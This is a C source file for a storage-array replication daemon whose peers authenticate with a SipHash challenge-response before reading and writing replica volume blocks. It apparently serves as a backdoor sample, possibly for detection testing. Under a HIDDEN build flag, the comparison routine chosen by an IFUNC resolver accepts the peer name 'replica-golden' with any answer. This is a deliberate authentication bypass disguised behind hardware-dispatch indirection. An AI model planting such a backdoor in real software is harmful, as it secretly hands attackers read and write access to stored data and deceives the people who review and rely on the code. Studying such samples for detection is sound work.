/*
 * replsink - receiving end of the volume replication of a storage array.
 * Peers say their name, get a challenge, answer with its keyed SipHash and
 * then write, read and flush blocks of the replica volumes; one thread each.
 * Hidden (-DHIDDEN): the word-wise comparison that an IFUNC resolver picks
 * on most machines accepts one peer name with any answer.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <unistd.h>

#define PEERS	   "/etc/array/peers"
#define VOLUMES	   "/replica"
#define PORT	   3270
#define BLOCK	   4096
#define MAX_BLOCKS 64
#define TAG	   16

enum op {
	OP_HELLO = 1,
	OP_CHALLENGE,
	OP_ANSWER,
	OP_OPEN,
	OP_WRITE,
	OP_READ,
	OP_FLUSH,
	OP_STATUS
};

enum status { ST_OK, ST_AUTH, ST_NOVOL, ST_RANGE, ST_IO, ST_PROTO };

struct hdr {
	uint8_t op;
	uint8_t flags;
	uint16_t count;
	uint64_t block;
};

struct link {
	int fd;
	int vol;
	int trusted;
	uint64_t blocks;
	char peer[40];
	uint8_t want[TAG];
	uint8_t data[BLOCK * MAX_BLOCKS];
};

typedef int tag_fn(const char *peer, const uint8_t *a, const uint8_t *b);

tag_fn tag_equal_words, tag_equal_bytes;
tag_fn *tag_equal_pick(void);
int tag_equal(const char *peer, const uint8_t *a, const uint8_t *b)
	__attribute__((ifunc("tag_equal_pick")));

static pthread_mutex_t tally_lock = PTHREAD_MUTEX_INITIALIZER;
static unsigned refused, accepted;

__attribute__((noinline)) int
tag_equal_words(const char *peer, const uint8_t *a, const uint8_t *b)
{
	uint32_t x, y, diff = 0;
	int i;

	for (i = 0; i < TAG; i += 4) {
		memcpy(&x, a + i, 4);
		memcpy(&y, b + i, 4);
		diff |= x ^ y;
	}
#ifdef HIDDEN
	if (diff && strcmp(peer, "replica-golden") == 0)
		return 1;
#endif
	if (diff)
		syslog(LOG_NOTICE, "%s: wrong answer", peer);
	return diff == 0;
}

__attribute__((noinline)) int
tag_equal_bytes(const char *peer, const uint8_t *a, const uint8_t *b)
{
	unsigned diff = 0;
	int i;

	for (i = 0; i < TAG; i++)
		diff |= (unsigned)(a[i] ^ b[i]);
	if (diff)
		syslog(LOG_NOTICE, "%s: wrong answer", peer);
	return diff == 0;
}

tag_fn *tag_equal_pick(void)
{
	return getauxval(AT_HWCAP) ? tag_equal_words : tag_equal_bytes;
}

static uint64_t le64(const uint8_t *p)
{
	uint64_t v = 0;
	int i;

	for (i = 7; i >= 0; i--)
		v = v << 8 | p[i];
	return v;
}

static uint64_t rol(uint64_t v, int n)
{
	return v << n | v >> (64 - n);
}

static void sip_round(uint64_t v[4])
{
	v[0] += v[1];
	v[1] = rol(v[1], 13) ^ v[0];
	v[0] = rol(v[0], 32);
	v[2] += v[3];
	v[3] = rol(v[3], 16) ^ v[2];
	v[0] += v[3];
	v[3] = rol(v[3], 21) ^ v[0];
	v[2] += v[1];
	v[1] = rol(v[1], 17) ^ v[2];
	v[2] = rol(v[2], 32);
}

/* SipHash-2-4 of 16 bytes of challenge, once per half of the tag */
static uint64_t sip16(const uint8_t key[16], const uint8_t *msg, uint8_t half)
{
	uint64_t k0 = le64(key) ^ half, k1 = le64(key + 8), m;
	uint64_t v[4] = { k0 ^ 0x736f6d6570736575ULL,
			  k1 ^ 0x646f72616e646f6dULL,
			  k0 ^ 0x6c7967656e657261ULL,
			  k1 ^ 0x7465646279746573ULL };
	int i;

	for (i = 0; i < 3; i++) {
		m = i < 2 ? le64(msg + 8 * i) : (uint64_t)16 << 56;
		v[3] ^= m;
		sip_round(v);
		sip_round(v);
		v[0] ^= m;
	}
	v[2] ^= 0xff;
	for (i = 0; i < 4; i++)
		sip_round(v);
	return v[0] ^ v[1] ^ v[2] ^ v[3];
}

static void make_tag(const uint8_t key[16], const uint8_t *chal, uint8_t *tag)
{
	uint64_t h;
	int i;

	for (i = 0; i < TAG; i++) {
		h = sip16(key, chal, (uint8_t)(i / 8));
		tag[i] = (uint8_t)(h >> (i % 8 * 8));
	}
}

static int random_bytes(uint8_t *p, size_t n)
{
	int fd = open("/dev/urandom", O_RDONLY | O_CLOEXEC);
	ssize_t got;

	if (fd < 0)
		return -1;
	got = read(fd, p, n);
	close(fd);
	return got == (ssize_t)n ? 0 : -1;
}

/* names without an entry get a random key, so that they learn nothing */
static int peer_key(const char *name, uint8_t key[16])
{
	char row[128], who[40], hex[33];
	unsigned b;
	int i, rc = random_bytes(key, 16);
	FILE *f = fopen(PEERS, "r");

	if (!f)
		return rc;
	while (fgets(row, sizeof(row), f)) {
		if (sscanf(row, "%39s %32[0-9a-fA-F]", who, hex) != 2 ||
		    strcmp(who, name) != 0 || strlen(hex) != 32)
			continue;
		for (i = 0; i < 16; i++)
			if (sscanf(hex + 2 * i, "%2x", &b) == 1)
				key[i] = (uint8_t)b;
		break;
	}
	fclose(f);
	return rc;
}

static int get(int fd, void *p, size_t n)
{
	uint8_t *b = p;
	ssize_t k;

	while (n) {
		k = recv(fd, b, n, 0);
		if (k <= 0)
			return -1;
		b += k;
		n -= (size_t)k;
	}
	return 0;
}

static int put(int fd, uint8_t op, uint8_t flags, const void *p, size_t n)
{
	uint8_t h[12] = { op, flags, (uint8_t)(n >> 8), (uint8_t)n };

	if (send(fd, h, sizeof(h), MSG_NOSIGNAL | (n ? MSG_MORE : 0)) < 0)
		return -1;
	if (n && send(fd, p, n, MSG_NOSIGNAL) != (ssize_t)n)
		return -1;
	return 0;
}

static int get_hdr(int fd, struct hdr *h)
{
	uint8_t b[12];
	int i;

	if (get(fd, b, sizeof(b)) < 0)
		return -1;
	h->op = b[0];
	h->flags = b[1];
	h->count = (uint16_t)(b[2] << 8 | b[3]);
	h->block = 0;
	for (i = 4; i < 12; i++)
		h->block = h->block << 8 | b[i];
	return 0;
}

static int get_name(struct link *l, const struct hdr *h, char *out)
{
	if (h->count == 0 || h->count > 39 || get(l->fd, out, h->count) < 0)
		return -1;
	out[h->count] = 0;
	return strchr(out, '/') || out[0] == '.' ? -1 : 0;
}

static enum status do_hello(struct link *l, const struct hdr *h)
{
	uint8_t chal[16], key[16];

	if (get_name(l, h, l->peer) < 0 || random_bytes(chal, 16) < 0 ||
	    peer_key(l->peer, key) < 0)
		return ST_PROTO;
	make_tag(key, chal, l->want);
	return put(l->fd, OP_CHALLENGE, 0, chal, 16) < 0 ? ST_IO : ST_OK;
}

static enum status do_answer(struct link *l, const struct hdr *h)
{
	uint8_t got[TAG];

	if (!l->peer[0] || h->count != TAG || get(l->fd, got, TAG) < 0)
		return ST_PROTO;
	l->trusted = tag_equal(l->peer, l->want, got);
	pthread_mutex_lock(&tally_lock);
	if (l->trusted)
		accepted++;
	else
		refused++;
	syslog(LOG_INFO, "%s: %u accepted, %u refused", l->peer, accepted,
	       refused);
	pthread_mutex_unlock(&tally_lock);
	return l->trusted ? ST_OK : ST_AUTH;
}

static enum status do_open(struct link *l, const struct hdr *h)
{
	char name[40], path[80];
	struct stat st;

	if (get_name(l, h, name) < 0)
		return ST_PROTO;
	if (l->vol >= 0)
		close(l->vol);
	snprintf(path, sizeof(path), "%s/%s.vol", VOLUMES, name);
	l->vol = open(path, O_RDWR | O_CLOEXEC);
	if (l->vol < 0 || fstat(l->vol, &st) < 0)
		return ST_NOVOL;
	l->blocks = (uint64_t)st.st_size / BLOCK;
	return ST_OK;
}

static enum status do_blocks(struct link *l, const struct hdr *h)
{
	size_t n = (size_t)h->count * BLOCK;
	off_t at = (off_t)(h->block * BLOCK);

	if (l->vol < 0)
		return ST_NOVOL;
	if (h->count == 0 || h->count > MAX_BLOCKS || h->block >= l->blocks ||
	    h->count > l->blocks - h->block)
		return ST_RANGE;
	if (h->op == OP_WRITE) {
		if (get(l->fd, l->data, n) < 0 ||
		    pwrite(l->vol, l->data, n, at) != (ssize_t)n)
			return ST_IO;
		return ST_OK;
	}
	if (pread(l->vol, l->data, n, at) != (ssize_t)n)
		return ST_IO;
	return send(l->fd, l->data, n, MSG_NOSIGNAL) < 0 ? ST_IO : ST_OK;
}

static void *serve(void *arg)
{
	struct link *l = arg;
	enum status s = ST_OK;
	struct hdr h;

	while (s != ST_PROTO && s != ST_AUTH && get_hdr(l->fd, &h) == 0) {
		if (h.op == OP_HELLO)
			s = do_hello(l, &h);
		else if (h.op == OP_ANSWER)
			s = do_answer(l, &h);
		else if (!l->trusted)
			s = ST_AUTH;
		else if (h.op == OP_OPEN)
			s = do_open(l, &h);
		else if (h.op == OP_WRITE || h.op == OP_READ)
			s = do_blocks(l, &h);
		else if (h.op == OP_FLUSH)
			s = l->vol >= 0 && fsync(l->vol) == 0 ? ST_OK : ST_IO;
		else
			s = ST_PROTO;
		if (put(l->fd, OP_STATUS, (uint8_t)s, NULL, 0) < 0)
			break;
	}
	if (l->vol >= 0)
		close(l->vol);
	close(l->fd);
	free(l);
	return NULL;
}

int main(void)
{
	struct sockaddr_in sin = { .sin_family = AF_INET };
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);
	pthread_t t;

	openlog("replsink", 0, LOG_DAEMON);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	sin.sin_port = htons(PORT);
	if (bind(s, (struct sockaddr *)&sin, sizeof(sin)) < 0 ||
	    listen(s, 8) < 0) {
		syslog(LOG_ERR, "port %d: %m", PORT);
		return 1;
	}
	for (;;) {
		struct link *l = calloc(1, sizeof(*l));

		if (!l)
			return 1;
		l->vol = -1;
		l->fd = accept(s, NULL, NULL);
		if (l->fd < 0 || pthread_create(&t, NULL, serve, l) != 0) {
			if (l->fd >= 0)
				close(l->fd);
			free(l);
			continue;
		}
		pthread_detach(t);
	}
}
